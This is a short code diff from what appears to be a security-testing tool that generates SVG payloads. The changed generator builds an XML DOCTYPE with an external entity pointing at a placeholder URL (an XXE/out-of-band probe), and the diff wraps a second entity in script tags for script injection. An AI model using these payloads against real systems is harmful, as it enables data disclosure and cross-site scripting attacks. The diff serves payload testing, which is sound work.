@@ -104,7 +104,7 @@ const svgElement: Generator = (line) => {
   ];
 };
 const svgAttribute: Generator = (line) => {
-  const doctype = `<!DOCTYPE svg [<!ENTITY a SYSTEM "${LIVE_URL}"><!ENTITY b "${LIVE}">]>`;
+  const doctype = `<!DOCTYPE svg [<!ENTITY a SYSTEM "${LIVE_URL}"><!ENTITY b "<script>${LIVE}</script>">]>`;
   return line === 'doctype'
     ? [
         { encoding: 'plain', content: svg('', doctype) },
